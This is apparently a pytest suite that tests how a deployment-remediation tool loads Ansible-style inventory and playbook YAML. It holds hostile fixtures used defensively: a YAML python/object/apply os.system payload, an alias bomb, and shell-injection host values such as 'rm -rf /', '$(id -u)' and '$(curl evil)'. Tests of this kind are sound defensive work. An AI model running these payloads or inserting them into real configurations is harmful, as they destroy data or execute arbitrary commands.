"""Inventory, playbook and YAML loading on hostile and malformed input (pure, no lab).

Every error is an InputError naming the file, the (dotted) key and the line."""
from __future__ import annotations

import textwrap
import time
from pathlib import Path

import pytest

from remediation.config import yamlio
from remediation.errors import InputError
from remediation.config.inventory import load_inventory
from remediation.config.playbook import DEFAULT_PLAYBOOK, PLAYBOOK_DIR, load_playbook


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def line_of(text: str, needle: str, after: str | None = None) -> int:
    """1-based line of the first line containing `needle` (after the line containing `after`)."""
    lines = textwrap.dedent(text).splitlines()
    start = 0
    if after is not None:
        start = next(i for i, line in enumerate(lines) if after in line) + 1
    return next(i for i, line in enumerate(lines) if i >= start and needle in line) + 1


def error_of(fn, *args) -> InputError:
    with pytest.raises(InputError) as info:
        fn(*args)
    return info.value


# --- YAML loading -------------------------------------------------------------------------------

def test_broken_yaml_names_the_file_and_line(tmp_path):
    path = write(tmp_path, "inv.yml", """\
        all:
          hosts:
            web1: {ansible_host: 10.0.0.1
            web2:
        """)
    err = error_of(load_inventory, path)
    assert err.path == str(path)
    assert err.line == 4
    assert str(err).startswith(f"{path}:4: invalid YAML")


def test_tab_indentation_is_an_input_error_with_line(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  hosts:\n\tweb1:\n")
    err = error_of(load_inventory, path)
    assert err.line == 3 and "invalid YAML" in str(err)


def test_duplicate_key_is_a_warning_and_the_last_one_wins_as_in_ansible(tmp_path):
    text = """\
        all:
          hosts:
            web1:
              ansible_host: 10.0.0.1
              ansible_host: 10.0.0.2
        """
    path = write(tmp_path, "inv.yml", text)
    inv = load_inventory(path)
    assert inv.host("web1").address == "10.0.0.2"
    assert inv.warnings == [f"{path}:5: duplicate key 'ansible_host': the last one is used, as Ansible does"]


def test_duplicate_host_in_one_mapping_is_a_warning(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  hosts:\n    web1: {}\n    web1: {}\n")
    inv = load_inventory(path)
    assert list(inv.hosts) == ["web1"] and "duplicate key 'web1'" in inv.warnings[0] and ":4:" in inv.warnings[0]


def test_merge_key_override_is_not_a_duplicate():
    data = yamlio.load("base: &b {port: 22, user: deploy}\nhost:\n  <<: *b\n  port: 2222\n", "f.yml")
    assert data["host"] == {"port": 2222, "user": "deploy"}
    assert data["host"].line_of("port") == 4


def test_duplicate_own_key_next_to_a_merge_is_still_refused():
    err = error_of(yamlio.load, "base: &b {port: 22}\nhost: {<<: *b, user: a, user: b}\n", "f.yml")
    assert "duplicate key 'user'" in str(err) and err.line == 2


def test_python_object_tag_is_rejected_not_constructed(tmp_path):
    marker = tmp_path / "pwned"
    text = f"""\
        all:
          hosts:
            web1: !!python/object/apply:os.system ["touch {marker}"]
        """
    path = write(tmp_path, "inv.yml", text)
    err = error_of(load_inventory, path)
    assert "python/object/apply" in str(err)
    assert err.line == 3
    assert not marker.exists()


@pytest.mark.parametrize("value", [
    "!!python/object:collections.OrderedDict {a: 1}",
    "!!python/object/new:builtins.list [[1]]",
    "!!python/name:os.system",
    "!!python/tuple [1, 2]",
    "!!set {a, b}",
    "!vault |\n    $ANSIBLE_VAULT;1.1;AES256\n    6162",
])
def test_non_plain_tags_are_input_errors_with_line(value):
    err = error_of(yamlio.load, f"name: x\nvalue: {value}\n", "pb.yml")
    assert err.path == "pb.yml" and err.line == 2
    assert "tag" in str(err) or "constructor" in str(err)


def test_recursive_alias_is_an_input_error_not_a_recursion_error():
    err = error_of(yamlio.load, "a: &x [1, *x]\n", "f.yml")
    assert "recursive alias" in str(err) and err.line == 1
    err = error_of(yamlio.load, "a: &x {b: 1, <<: *x}\n", "f.yml")
    assert "recursive alias" in str(err)


def test_alias_bomb_is_loaded_without_expansion():
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, cur in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{cur}: &{cur} [" + ", ".join([f"*{prev}"] * 9) + "]")
    started = time.monotonic()
    data = yamlio.load("\n".join(lines) + "\n", "bomb.yml")
    assert time.monotonic() - started < 2  # expanding it would never finish
    assert data["i"][0] is data["i"][8]  # aliases share one object: 9**9 strings are never built


def test_non_utf8_file_is_named(tmp_path):
    path = tmp_path / "inv.yml"
    path.write_bytes("all:\n  hosts:\n    caf\xe9:\n".encode("latin-1"))
    err = error_of(load_inventory, path)
    assert err.path == str(path) and "not UTF-8" in str(err)


def test_missing_inventory_and_playbook_files(tmp_path):
    err = error_of(load_inventory, tmp_path / "nope.yml")
    assert err.path == str(tmp_path / "nope.yml") and "not found" in str(err)
    err = error_of(load_playbook, tmp_path / "nope.yml")
    assert err.path == str(tmp_path / "nope.yml") and "not found" in str(err)


# --- inventory shape ----------------------------------------------------------------------------

def test_empty_inventory_file(tmp_path):
    path = write(tmp_path, "inv.yml", "# nothing yet\n")
    err = error_of(load_inventory, path)
    assert "defines no hosts" in str(err) and str(path) in str(err)


def test_inventory_with_groups_but_no_hosts(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  vars: {ansible_user: deploy}\n  children:\n    web: {}\n")
    assert "defines no hosts" in str(error_of(load_inventory, path))


def test_hosts_as_a_list_names_the_key_and_line(tmp_path):
    text = """\
        all:
          children:
            web:
              hosts:
                - web1
                - web2
        """
    path = write(tmp_path, "inv.yml", text)
    err = error_of(load_inventory, path)
    assert err.key == "web.hosts"
    assert err.line == line_of(text, "hosts:")
    assert "must be a mapping, not a list" in str(err)


def test_vars_as_a_string_names_the_key_and_line(tmp_path):
    text = """\
        all:
          hosts:
            web1:
          vars: ansible_user=deploy
        """
    path = write(tmp_path, "inv.yml", text)
    err = error_of(load_inventory, path)
    assert err.key == "all.vars" and err.line == 4
    assert "not a string" in str(err)


def test_host_vars_as_a_list(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  hosts:\n    web1: [a, b]\n")
    err = error_of(load_inventory, path)
    assert err.key == "host web1" and err.line == 3


def test_unknown_key_in_a_group_names_key_and_line(tmp_path):
    text = """\
        all:
          children:
            web:
              hosts: {web1: }
              host_vars: {web1: {x: 1}}
        """
    path = write(tmp_path, "inv.yml", text)
    err = error_of(load_inventory, path)
    assert err.key == "host_vars"
    assert err.line == line_of(text, "host_vars")
    assert "group 'web'" in str(err)


@pytest.mark.parametrize("name", ["~", "1", "[a]"])
def test_group_names_must_be_strings(tmp_path, name):
    path = write(tmp_path, "inv.yml", f"all:\n  children:\n    {name}:\n      hosts: {{web1: }}\n")
    err = error_of(load_inventory, path)
    assert err.line == 3
    assert "must be" in str(err)


def test_host_names_must_be_strings(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  hosts:\n    web1:\n    42:\n")
    err = error_of(load_inventory, path)
    assert err.line == 4 and "host names" in str(err)


def test_group_containing_itself(tmp_path):
    path = write(tmp_path, "inv.yml", "all:\n  children:\n    web:\n      children:\n        web: {hosts: {a: }}\n")
    err = error_of(load_inventory, path)
    assert "contains itself" in str(err) and err.line == 5


def test_directory_of_inventory_files_is_merged(tmp_path):
    inv_dir = tmp_path / "inventory"
    inv_dir.mkdir()
    write(inv_dir, "00-all.yml", "all:\n  vars:\n    ansible_user: deploy\n    tier: base\n")
    write(inv_dir, "10-web.yml", "web:\n  hosts:\n    web1: {ansible_host: 10.0.0.1}\n  vars:\n    tier: web\n")
    write(inv_dir, "20-db.yaml", "db:\n  hosts:\n    db1:\n")
    write(inv_dir, "README.md", "not: [an inventory\n")
    (inv_dir / "old.yml.bak").write_text("{{{", encoding="utf-8")
    inv = load_inventory(inv_dir)
    assert sorted(inv.hosts) == ["db1", "web1"]
    assert inv.sources == [str(inv_dir / "00-all.yml"), str(inv_dir / "10-web.yml"), str(inv_dir / "20-db.yaml")]
    # `all` vars reach hosts listed in other files; the child group `web` overrides `all`
    assert inv.host("db1").vars == {"ansible_user": "deploy", "tier": "base"}
    assert inv.host("web1").vars == {"ansible_user": "deploy", "tier": "web", "ansible_host": "10.0.0.1"}
    assert sorted(h.name for h in inv.select("all")) == ["db1", "web1"]


def test_directory_without_inventory_files(tmp_path):
    (tmp_path / "notes.txt").write_text("x")
    err = error_of(load_inventory, tmp_path)
    assert "no inventory files" in str(err) and err.path == str(tmp_path)


def test_error_in_second_file_of_a_directory_names_that_file(tmp_path):
    write(tmp_path, "a.yml", "all:\n  hosts: {web1: }\n")
    bad = write(tmp_path, "b.yml", "web:\n  hosts: [web2]\n")
    err = error_of(load_inventory, tmp_path)
    assert err.path == str(bad) and err.line == 2


# --- variable precedence ------------------------------------------------------------------------

PRECEDENCE = """\
    all:
      vars:
        level: all
        from_all: yes
        shared: all
      children:
        web:
          vars:
            level: parent
            from_parent: yes
            shared: parent
          children:
            web_eu:
              vars:
                level: child
                from_child: yes
              hosts:
                web1:
                  level: host
                web2:
"""


def test_var_precedence_all_parent_child_host(tmp_path):
    inv = load_inventory(write(tmp_path, "inv.yml", PRECEDENCE))
    web1, web2 = inv.host("web1").vars, inv.host("web2").vars
    assert web1["level"] == "host"
    assert web2["level"] == "child"
    assert web2["shared"] == "parent"
    assert web2["from_all"] is True and web2["from_parent"] is True and web2["from_child"] is True
    assert inv.groups["web"] == ["web1", "web2"] and inv.groups["web_eu"] == ["web1", "web2"]


def test_precedence_does_not_depend_on_document_order(tmp_path):
    # the child group is written before its parent's vars, and a top-level group before `all`
    text = """\
        web:
          children:
            web_eu:
              hosts: {web1: }
              vars: {level: child}
          vars: {level: parent}
        all:
          vars: {level: all, only_all: 1}
        """
    inv = load_inventory(write(tmp_path, "inv.yml", text))
    assert inv.host("web1").vars == {"level": "child", "only_all": 1}


def test_host_in_two_groups_at_the_same_depth_merges_in_name_order(tmp_path):
    # Ansible merges same-depth groups alphabetically, the later name winning (not file order)
    text = """\
        all:
          children:
            zeta:
              hosts: {web1: }
              vars: {role: from-zeta, only_zeta: 1}
            alpha:
              hosts: {web1: , web2: }
              vars: {role: from-alpha, only_alpha: 1}
        """
    inv = load_inventory(write(tmp_path, "inv.yml", text))
    assert inv.host("web1").vars == {"role": "from-zeta", "only_zeta": 1, "only_alpha": 1}
    assert inv.host("web1").groups == ["zeta", "alpha"]
    assert inv.host("web2").vars == {"role": "from-alpha", "only_alpha": 1}


def test_deeper_group_beats_a_shallower_one_whatever_the_names(tmp_path):
    text = """\
        all:
          children:
            zzz:
              hosts: {web1: }
              vars: {role: shallow}
            aaa:
              children:
                aaa_child:
                  hosts: {web1: }
                  vars: {role: deep}
        """
    inv = load_inventory(write(tmp_path, "inv.yml", text))
    assert inv.host("web1").vars["role"] == "deep"


def test_host_vars_given_twice_merge_the_later_winning(tmp_path):
    text = """\
        all:
          children:
            a: {hosts: {web1: {x: 1, y: 1}}}
            b: {hosts: {web1: {y: 2}}}
        """
    inv = load_inventory(write(tmp_path, "inv.yml", text))
    assert inv.host("web1").vars == {"x": 1, "y": 2}


# --- host patterns ------------------------------------------------------------------------------

PATTERNS = """\
    all:
      children:
        web:
          hosts: {lab1: , lab2: , lab3: }
        db:
          hosts: {db1: , lab3: }
        compose:
          hosts: {lab3: , lab4: }
"""


@pytest.fixture
def fleet(tmp_path):
    return load_inventory(write(tmp_path, "inv.yml", PATTERNS))


def names(fleet, pattern):
    return [h.name for h in fleet.select(pattern)]


@pytest.mark.parametrize("pattern, expected", [
    ("lab2", ["lab2"]),
    ("web", ["lab1", "lab2", "lab3"]),
    ("all", ["lab1", "lab2", "lab3", "db1", "lab4"]),
    ("~lab[12]", ["lab1", "lab2"]),  # a regex; `lab[12]` is a subscript in Ansible (below)
    ("web[0]", ["lab1"]),
    ("web[1:]", ["lab2", "lab3"]),
    ("web[0:1]", ["lab1", "lab2"]),
    ("lab*", ["lab1", "lab2", "lab3", "lab4"]),
    ("co*", ["lab3", "lab4"]),  # a glob over group names
    ("web:db", ["lab1", "lab2", "lab3", "db1"]),
    ("web:&db", ["lab3"]),
    ("web:!lab3", ["lab1", "lab2"]),
    ("web:!compose", ["lab1", "lab2"]),
    ("lab1,db1", ["lab1", "db1"]),
    ("lab1, db1", ["lab1", "db1"]),
    ("web:&compose:!db", []),
    ("web:db:&compose", ["lab3"]),
])
def test_select_patterns(fleet, pattern, expected):
    if expected:
        assert names(fleet, pattern) == expected
    else:
        err = error_of(fleet.select, pattern)
        assert "matches no host" in str(err)


def test_exclusion_is_applied_after_every_union_as_in_ansible(fleet):
    assert names(fleet, "!lab3:web") == ["lab1", "lab2"]
    assert names(fleet, "web:!lab3:db") == ["lab1", "lab2", "db1"]


def test_pattern_of_only_exclusions_starts_from_all(fleet):
    assert names(fleet, "!web") == ["db1", "lab4"]
    assert names(fleet, "&compose") == ["lab3", "lab4"]


@pytest.mark.parametrize("pattern, fragment", [
    ("lab9", "no host or group named 'lab9'"),
    ("web:!typo", "no host or group named 'typo'"),
    ("nomatch*", "matches no host"),
    ("web:!web", "matches no host"),
    ("", "empty host pattern"),
    (" , : ", "empty host pattern"),
])
def test_bad_patterns_are_input_errors(fleet, pattern, fragment):
    assert fragment in str(error_of(fleet.select, pattern))


def test_unknown_host_lists_what_the_inventory_has(fleet):
    err = error_of(fleet.host, "lab9")
    assert "unknown host 'lab9'" in str(err) and "lab1" in str(err)


# --- hostile values are data --------------------------------------------------------------------

def test_shell_metacharacters_in_host_vars_survive_unchanged(tmp_path):
    text = r"""
all:
  hosts:
    web1:
      ansible_host: "10.0.0.1; rm -rf /"
      ansible_user: "$(id -u)"
      remediation_app_dir: "/srv/`reboot`"
      remediation_app_url: 'http://x/?a=1&b=$HOME|cat'
      multi: "line1\nline2; rm -rf /"
      block: |
        first; rm -rf /
        $(curl evil)
      quoted: "it's \"quoted\" \\ done"
"""
    inv = load_inventory(write(tmp_path, "inv.yml", text))
    host = inv.host("web1")
    expected = {
        "ansible_host": "10.0.0.1; rm -rf /",
        "ansible_user": "$(id -u)",
        "remediation_app_dir": "/srv/`reboot`",
        "remediation_app_url": "http://x/?a=1&b=$HOME|cat",
        "multi": "line1\nline2; rm -rf /",
        "block": "first; rm -rf /\n$(curl evil)\n",
        "quoted": 'it\'s "quoted" \\ done',
    }
    assert host.vars == expected
    assert all(type(v) is str for v in host.vars.values())
    target = host.ssh_target()
    assert target.address == "10.0.0.1; rm -rf /" and target.user == "$(id -u)"


@pytest.mark.parametrize("port", ['"22; id"', "twenty", "0", "70000", "true", "[22]"])
def test_bad_ansible_port_is_an_input_error(tmp_path, port):
    inv = load_inventory(write(tmp_path, "inv.yml", f"all:\n  hosts:\n    web1: {{ansible_port: {port}}}\n"))
    err = error_of(inv.host("web1").ssh_target)
    assert err.key == "ansible_port" and "web1" in str(err)


def test_ssh_target_defaults_and_string_port(tmp_path):
    inv = load_inventory(write(tmp_path, "inv.yml", "all:\n  hosts:\n    web1: {ansible_port: '2222'}\n    web2:\n"))
    assert inv.host("web1").ssh_target().port == 2222
    t = inv.host("web2").ssh_target()
    # unset: ~/.ssh/config's Port/User, else 22 and the local user (as Ansible), never root by default
    assert (t.address, t.port, t.user, t.key_file) == ("web2", None, None, None)


# --- playbooks ----------------------------------------------------------------------------------

def test_both_shipped_playbooks_load():
    gthread = load_playbook(DEFAULT_PLAYBOOK)
    sync = load_playbook(PLAYBOOK_DIR / "gevent-to-sync.yml")
    assert (gthread.target.worker_class, gthread.target.workers, gthread.target.threads) == ("gthread", 2, 8)
    assert (sync.target.worker_class, sync.target.workers, sync.target.threads) == ("sync", 4, 1)
    for pb in (gthread, sync):
        assert pb.target.conn_max_age == 600 and pb.target.conn_health_checks is True
        assert pb.verify.path is None  # a placeholder: each fleet names its own page
        assert pb.verify.path_for({}) is None
        assert pb.verify.path_for({"remediation_verify_path": "/orders/"}) == "/orders/"
        assert pb.verify.log_pattern and "(?P<ms>" in pb.verify.log_pattern
    assert gthread.verify.warmup_requests(gthread.target) == 16
    assert gthread.verify.max_new_connections(gthread.target) == 16
    assert load_playbook(None).name == "gevent-to-gthread"


BASE = DEFAULT_PLAYBOOK.read_text(encoding="utf-8")


def mutate(old: str, new: str) -> str:
    assert BASE.count(old) == 1, old
    return BASE.replace(old, new)


def replace_section(name: str, new: str) -> str:
    """BASE with the top-level section `name:` (and its indented body) replaced by `new`."""
    lines = BASE.splitlines(keepends=True)
    start = lines.index(f"{name}:\n")
    end = start + 1
    while end < len(lines) and lines[end].startswith(" "):
        end += 1
    return "".join(lines[:start]) + new + "".join(lines[end:])


def section_line(text: str, section: str, key: str) -> int:
    return line_of(text, key, after=f"{section}:") if section else line_of(text, key)


# (playbook text, dotted key, (section, needle) of the line the error must name, message fragment)
SCHEMA_CASES = {
    "unknown top-level key": (BASE + "retries: 3\n", "retries", ("", "retries:"), "unknown key"),
    "unknown gunicorn key": (mutate("  threads: 8\n", "  threads: 8\n  preload: true\n"),
                             "gunicorn.preload", ("gunicorn", "preload:"), "unknown key"),
    "unknown django key": (mutate("  conn_max_age: 600", "  conn_max_ag: 600"),
                           "django.conn_max_ag", ("django", "conn_max_ag:"), "unknown key"),
    "unknown restart key": (mutate("  timeout_s: 60              #", "  timeout: 60              #"),
                            "restart.timeout", ("restart", "timeout:"), "unknown key"),
    "unknown verify key": (mutate("  requests: 30", "  request: 30"),
                           "verify.request", ("verify", "request:"), "unknown key"),
    "unknown thresholds key": (mutate("    max_p95_ratio: 1.5", "    max_p99_ratio: 1.5"),
                               "verify.thresholds.max_p99_ratio", ("thresholds", "max_p99_ratio"), "unknown key"),
    "workers as a string": (mutate("  workers: 2", '  workers: "2"'),
                            "gunicorn.workers", ("gunicorn", "workers:"), "must be a number, not a string"),
    "workers as a boolean": (mutate("  workers: 2", "  workers: yes"),
                             "gunicorn.workers", ("gunicorn", "workers:"), "not a boolean"),
    "threads as a float": (mutate("  threads: 8", "  threads: 8.5"),
                           "gunicorn.threads", ("gunicorn", "threads:"), "must be a number"),
    "health checks as a string": (mutate("  conn_health_checks: true", "  conn_health_checks: 'yes please'"),
                                  "django.conn_health_checks", ("django", "conn_health_checks"), "true or false"),
    "ratio as a string": (mutate("    max_p95_ratio: 1.5", "    max_p95_ratio: fast"),
                          "verify.thresholds.max_p95_ratio", ("thresholds", "max_p95_ratio"), "must be a number"),
    "warmup word": (mutate("  warmup: auto", "  warmup: lots"),
                    "verify.warmup", ("verify", "warmup:"), 'or "auto"'),
    "path as a list": (mutate("  path: ~", "  path: [/a, /b]"),
                       "verify.path", ("verify", "path:"), "not a list"),
    "gunicorn as a scalar": (replace_section("gunicorn", "gunicorn: 5\n"),
                             "gunicorn", ("", "gunicorn:"), "must be a mapping, not a number"),
    "thresholds as a list": (BASE.split("  thresholds:")[0] + "  thresholds: [1, 2]\n",
                             "verify.thresholds", ("verify", "thresholds:"), "must be a mapping, not a list"),
    "missing workers": (mutate("  workers: 2\n", ""), "gunicorn.workers", ("", "gunicorn:"), "missing required key"),
    "missing name": (mutate("name: gevent-to-gthread\n", ""), "name", ("", "description:"), "missing required key"),
    "missing django section": (replace_section("django", ""), "django", ("", "name:"), "missing section"),
    "bad worker class": (mutate("worker_class: gthread", "worker_class: gevent"),
                         "gunicorn.worker_class", ("gunicorn", "worker_class:"), "must be one of gthread, sync"),
    "sync with threads": (mutate("worker_class: gthread", "worker_class: sync"),
                          "gunicorn.threads", ("gunicorn", "threads:"), "sync with threads > 1"),
    "zero workers": (mutate("  workers: 2", "  workers: 0"), "gunicorn.workers", ("gunicorn", "workers:"),
                     "between 1 and 256"),
    "negative conn_max_age": (mutate("  conn_max_age: 600", "  conn_max_age: -1"),
                              "django.conn_max_age", ("django", "conn_max_age:"), "0 or more"),
    "relative verify.path": (mutate("  path: ~", "  path: api/schools/primary/"),
                             "verify.path", ("verify", "path:"), "absolute URL path"),
    "log pattern without ms group": (mutate("(?P<ms>[0-9.]+)ms", "([0-9.]+)ms"),
                                     "verify.log_pattern", ("verify", "log_pattern:"), "(?P<ms>...)"),
    "log pattern that is not a regex": (mutate("(?P<ms>[0-9.]+)ms", "(?P<ms>[0-9.+ms"),
                                        "verify.log_pattern", ("verify", "log_pattern:"), "not a valid regular"),
    "zero requests": (mutate("  requests: 30", "  requests: 0"), "verify.requests", ("verify", "requests:"),
                      "at least 1"),
    "zero verify timeout": (mutate("  timeout_s: 30", "  timeout_s: 0"), "verify.timeout_s", ("verify", "timeout_s:"),
                            "between 1 and 600"),
}


@pytest.mark.parametrize("case", sorted(SCHEMA_CASES))
def test_playbook_schema_violation_names_file_key_and_line(tmp_path, case):
    text, key, (section, needle), fragment = SCHEMA_CASES[case]
    path = tmp_path / "pb.yml"
    path.write_text(text, encoding="utf-8")
    err = error_of(load_playbook, path)
    assert err.path == str(path)
    assert err.key == key
    assert err.line == section_line(text, section, needle), str(err)
    assert fragment in str(err)
    assert str(err).startswith(f"{path}:{err.line}: {key}: ")


def test_empty_and_non_mapping_playbooks(tmp_path):
    for text, kind in (("", "empty"), ("- a\n", "a list"), ("just text\n", "a string")):
        path = tmp_path / "pb.yml"
        path.write_text(text, encoding="utf-8")
        err = error_of(load_playbook, path)
        assert f"must be a mapping, not {kind}" in str(err) and err.path == str(path)


def test_optional_sections_take_their_defaults(tmp_path):
    text = textwrap.dedent("""\
        name: minimal
        gunicorn: {worker_class: gthread, workers: 3, threads: 4}
        django: {conn_max_age: 60, conn_health_checks: false}
        verify: {path: /health/}
        """)
    path = tmp_path / "pb.yml"
    path.write_text(text, encoding="utf-8")
    pb = load_playbook(path)
    assert pb.restart_timeout_s == 60 and pb.target.worker_connections == 1000
    assert pb.verify.timeout_s == 30  # each verification request's limit, as before the key was read
    assert pb.verify.log_pattern is None and pb.verify.thresholds.max_p95_ratio == 1.5
    assert pb.verify.warmup_requests(pb.target) == 12


def test_a_count_that_cannot_fail_is_named_with_the_fix():
    """10 timed requests against a limit of 16 (the first bench playbook): an app still opening a
    connection per request shows 10 new ones and would pass, so the count proves nothing."""
    from dataclasses import replace

    from remediation.model import Target

    pb = load_playbook()
    target = Target("gthread", 2, 8)
    assert pb.verify.requests == 30 and pb.verify.count_cannot_fail(target) is None
    few = replace(pb.verify, requests=16)
    assert few.count_cannot_fail(target) == (
        "verify.requests 16 is not above the new-connection limit 16 (workers x threads = 2 x 8): a connect "
        "per request would pass the count, so it could not prove reuse; set verify.requests above 16")
    assert replace(pb.verify, requests=17).count_cannot_fail(target) is None
    assert few.count_cannot_fail(Target("sync", 4, 1)) is None  # a sync target's limit is its 4 workers
    explicit = replace(few, thresholds=replace(few.thresholds, max_new_db_connections=20))
    assert "verify.thresholds.max_new_db_connections" in explicit.count_cannot_fail(target)


def test_every_shipped_playbook_can_fail_its_count():
    from remediation.model import Target

    root = Path(__file__).resolve().parent.parent
    for path in [*sorted((root / "playbooks").glob("*.yml")), *sorted(PLAYBOOK_DIR.glob("*.yml")),
                 root / "bench" / "bench-playbook.yml"]:
        pb = load_playbook(path)
        assert pb.verify.count_cannot_fail(pb.target) is None, path
        assert pb.verify.count_cannot_fail(Target(pb.target.worker_class, 2, 8)) is None, path
